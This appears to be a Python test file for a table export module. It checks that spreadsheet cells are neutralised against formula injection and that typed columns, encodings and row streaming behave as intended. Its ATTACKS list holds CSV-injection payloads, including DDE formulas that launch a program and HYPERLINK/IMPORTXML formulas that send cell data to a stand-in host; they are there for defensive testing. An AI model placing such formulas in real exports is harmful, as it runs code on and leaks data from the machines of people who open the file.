"""Tables as files: typed cells, nothing that runs, nothing that is misread, a million rows in little memory."""

import csv
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from vitalgrid.foundation.kit.tables import FORMATS, Column, Facts, Kind, write
from vitalgrid.foundation.kit.tables.cells import defused, looks_dangerous, plain

ZONE = ZoneInfo("Asia/Shanghai")
AT = datetime(2026, 3, 2, 2, 0, tzinfo=UTC)
FACTS = Facts("演示", "演示市", AT.astimezone(ZONE).replace(tzinfo=None), (("谁", "演示·甲"),))

# What the attack lists of OWASP and of spreadsheet testers hold, and what the field writes without any bad thought.
ATTACKS = (
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://192.0.2.1?x=\"&A1,\"x\")", "=IMPORTXML(CONCAT(\"http://192.0.2.1\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1", "－1+2", "＠SUM(1)",
    "-2+3", "+1-1", "=-1", "-1;=1+1", "x;=1+1", "x\t=1+1", "\"=1+1", "'=1+1", "''=1+1", "%0A=1+1", "-", "+", "=", "@",
    "+86 139 0000 1234", "=2+5+cmd|' /C calc'!A0", "=0", "@演示", "-演示:没有人",
)  # fmt: skip
NUMBERS = ("-5", "+5", "-5.25", "-3,5", "12", "-7 %", "-0")
CODES = ("0937123", "13900001234", "620981198001011234", "1-1", "1-1-1", "2026/3", "1E5", "00", "TRUE", "3:4", "vg_12")


def _runs(cell: str) -> bool:
    """Whether a spreadsheet would run the cell: an oracle that knows nothing of ours."""
    for part in cell.replace("\t", ";").split(";"):
        head = part.strip()
        if head[:1] in tuple("=+-@＝＋－＠"):
            try:
                float(head.replace(",", ".").replace("%", "").strip())
            except ValueError:
                return True
    return False


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_in_a_cell_runs(text: str) -> None:
    """A report that a clerk opens in a spreadsheet must not start a program on the clerk's machine."""
    for is_code in (False, True):
        assert not _runs(defused(text, is_code=is_code))
        assert plain(defused(text, is_code=is_code)) == text


@pytest.mark.parametrize("text", NUMBERS)
def test_a_negative_number_stays_a_number(text: str) -> None:
    assert defused(text) == text and not looks_dangerous(text)


@pytest.mark.parametrize("text", [code for code in CODES if code != "vg_12"])
def test_a_code_that_would_be_misread_stays_text(text: str) -> None:
    assert defused(text, is_code=True).startswith("\t") or text == "13900001234"
    assert plain(defused(text, is_code=True)) == text


@given(st.text(alphabet=st.sampled_from("=+-@;\t ' a1,＝演")), st.booleans())
def test_defusing_can_be_undone(text: str, is_code: bool) -> None:
    cell = defused(text, is_code=is_code)
    assert not _runs(cell)
    if not text.startswith("\t"):
        assert plain(cell) == text


COLUMNS = (
    Column("text", "文字", lambda row: row[0]),
    Column("code", "编码", lambda row: row[1], Kind.CODE),
    Column("number", "数", lambda row: row[2], Kind.NUMBER),
    Column("day", "日", lambda row: row[3], Kind.DAY),
    Column("moment", "时", lambda row: row[4], Kind.MOMENT),
    Column("flag", "是否", lambda row: row[5], Kind.FLAG),
)
RARE = '𬭚 㛃 𠮷 龘 · “引号”\n第二行, "x"'
ROWS: list[tuple[Any, ...]] = [
    ("=1+1", "0937123", -5, date(2026, 3, 5), AT, True),
    (RARE, "620981198001011234", Decimal("0.25"), None, None, False),
    ("-5", "1-1-1", float("nan"), date(1899, 1, 1), AT, False),
]


def file_of(tmp_path: Path, form: str, rows: Any = None, **told: Any) -> Path:
    path = tmp_path / f"x.{FORMATS[form].ending}"
    write(path, FORMATS[form], COLUMNS, ROWS if rows is None else rows, zone=ZONE, facts=FACTS, **told)
    return path


def test_excel_has_typed_cells_and_text_that_does_not_run(tmp_path: Path) -> None:
    book = CalamineWorkbook.from_path(file_of(tmp_path, "xlsx"))
    head, first, second, third = book.get_sheet_by_index(0).to_python()
    assert head == ["文字", "编码", "数", "日", "时", "是否"]
    assert first == ["=1+1", "0937123", -5.0, date(2026, 3, 5), AT.astimezone(ZONE).replace(tzinfo=None), "是"]
    assert second[:3] == [RARE, "620981198001011234", 0.25] and second[5] == "否"
    assert third[:4] == ["-5", "1-1-1", "", "1899-01-01"]
    about = dict(row for row in book.get_sheet_by_index(1).to_python())
    assert about == {"谁": "演示·甲", "行数": "3"}


@pytest.mark.parametrize(("form", "encoding"), [("csv", "utf-8-sig"), ("gb18030", "gb18030")])
def test_csv_is_read_by_excel_and_by_programs(tmp_path: Path, form: str, encoding: str) -> None:
    path = file_of(tmp_path, form, is_for_programs=True)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") == (form == "csv")
    with path.open(encoding=encoding, newline="") as file:
        head, first, second, third = csv.reader(file)
    assert head == ["text", "code", "number", "day", "moment", "flag"]
    assert first == ["'=1+1", "\t0937123", "-5", "2026-03-05", "2026-03-02 10:00:00", "是"]
    assert second == [RARE, "\t620981198001011234", "0.25", "", "", "否"]
    assert third[:3] == ["-5", "\t1-1-1", ""]


def test_rows_are_written_as_they_come(tmp_path: Path) -> None:
    """A list of a million rows that is built in memory first takes the server with it."""
    alive: list[int] = []
    seen: list[int] = []

    def rows() -> Iterator[tuple[Any, ...]]:
        for number in range(500):
            alive.append(number)
            yield ("x", str(number), number, None, None, False)
            assert seen[-1] == number + 1  # the row before was written and told before the next is made

    for form in FORMATS:
        alive.clear()
        seen.clear()
        file_of(tmp_path, form, rows(), on_row=seen.append)
        assert len(alive) == len(seen) == 500


def test_what_is_called_off_ends_the_writing(tmp_path: Path) -> None:
    def stop(count: int) -> None:
        if count == 2:
            raise InterruptedError

    for form in FORMATS:
        with pytest.raises(InterruptedError):
            file_of(tmp_path, form, on_row=stop)
